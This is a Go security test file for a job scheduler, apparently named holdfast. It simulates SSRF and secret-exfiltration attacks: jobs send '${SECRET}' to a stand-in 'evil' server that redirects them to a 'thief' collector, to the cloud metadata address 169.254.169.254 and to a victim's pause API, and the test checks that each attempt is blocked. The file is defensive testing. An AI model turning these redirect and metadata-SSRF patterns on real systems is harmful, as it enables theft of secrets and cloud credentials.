package attacks

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/holdfast-dev/holdfast/jobs"
)

// collector records the requests that a server gets.
type collector struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

// collect starts a server that answers as answer says, and records each request as text.
func (a *attack) collect(answer func(w http.ResponseWriter, r *http.Request)) *collector {
	c := &collector{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			body = []byte(err.Error())
		}
		c.mu.Lock()
		c.seen = append(c.seen, fmt.Sprint(r.Method, r.URL, r.Header, string(body)))
		c.mu.Unlock()
		answer(w, r)
	}))
	a.Cleanup(c.Close)
	return c
}

// requests returns the requests up to now.
func (c *collector) requests() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.seen...)
}

// TestRow02 redirects the requests of http jobs and of a webhook to a server that collects secrets,
// and to the actions of a replica without users.
func TestRow02(t *testing.T) {
	a := begin(t, 2)
	const metadata = "http://169.254.169.254/latest/meta-data"
	victim := a.start(plan{name: "victim"})
	thief := a.collect(func(http.ResponseWriter, *http.Request) {})
	evil := a.collect(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasPrefix(r.URL.Path, "/steal"):
			http.Redirect(w, r, thief.URL, http.StatusFound)
		case strings.HasPrefix(r.URL.Path, "/pause"):
			http.Redirect(w, r, victim.URL+"/api/v1/groups/night/pause",
				http.StatusTemporaryRedirect)
		case strings.HasPrefix(r.URL.Path, "/metadata"):
			http.Redirect(w, r, metadata, http.StatusFound)
		}
	})
	job := func(name, url, more string) string {
		return fmt.Sprintf("  - {name: %s, handler: http, params: {method: POST, url: '%s', "+
			"headers: {X-Key: '${SECRET}'}, body: '{\"reason\": \"%s\"}'%s}}\n", name, url,
			"${SECRET}", more)
	}
	g := a.start(plan{env: []string{"SECRET=" + secret},
		jobs: job("steal", evil.URL+"/steal?key=${SECRET}", "") +
			job("any", evil.URL+"/steal?key=${SECRET}", ", follow_redirects: any") +
			job("pause", evil.URL+"/pause", "") +
			job("pause-any", evil.URL+"/pause", ", follow_redirects: any") +
			job("metadata", evil.URL+"/metadata", ", follow_redirects: any") +
			job("direct", victim.URL+"/api/v1/groups/night/pause", ""),
		more: "webhooks:\n  - {name: hook, url: '" + evil.URL + "/steal', secret: " + secret +
			"-0123456789, events: [failed], headers: [{name: X-Key, value: '${SECRET}'}]}"})
	for _, name := range []string{"steal", "any", "pause", "pause-any", "metadata", "direct"} {
		run := g.trigger(name, request{})
		a.hides("run "+name, run.Error+run.Detail+run.Output)
		// A POST that is redirected by 302 becomes a GET without a body, which any may follow.
		if run.State != jobs.Failed && name != "any" ||
			name == "metadata" && !strings.Contains(run.Error, "169.254.169.254 refused") {
			a.Errorf("job %s: %s %q", name, run.State, run.Error)
		}
	}
	direct := filepath.Join(t.TempDir(), "direct.yaml")
	if err := os.WriteFile(direct, []byte("jobs:\n  - {name: direct, handler: http, params: "+
		"{url: '"+metadata+"'}}\n"),
		0o600); err != nil {
		t.Fatal(err)
	}
	if output, code := a.command("validate", "-c", direct); code == 0 ||
		!strings.Contains(output, "refused") {
		a.Errorf("a job for %s: %d %s", metadata, code, output)
	}
	g.await("delivery of the webhook", allowed*4, func() bool {
		for _, r := range evil.requests() {
			if strings.Contains(r, "Webhook-Signature") {
				return true
			}
		}
		return false
	})
	for _, r := range thief.requests() {
		a.hides("a redirected request", r)
		for _, header := range []string{"Referer", "X-Key", "X-Holdfast-", "Webhook-Signature"} {
			if strings.Contains(r, header) {
				a.Errorf("a redirected request has the header %s: %s", header, r)
			}
		}
	}
	// A form and a script of another site cannot act either.
	for _, header := range []map[string]string{
		{"Origin": "http://evil.example", "Content-Type": "text/plain"},
		{"Content-Type": "application/x-www-form-urlencoded"}, {},
	} {
		victim.expect(http.StatusForbidden, request{path: "/api/v1/pause",
			json: `{"reason": "x"}`, header: header})
	}
	if pauses := victim.ask(request{path: "/api/v1/pauses"}).body; strings.Contains(pauses,
		"night") || strings.Contains(pauses, "everything") {
		a.Errorf("the victim is paused: %s", pauses)
	}
	a.hides("the log", g.Log())
	a.report("6 http jobs and a webhook redirected: %d requests to the other host, none with a "+
		"secret; a replica without users was not paused; 169.254.169.254 was refused",
		len(thief.requests()))
}
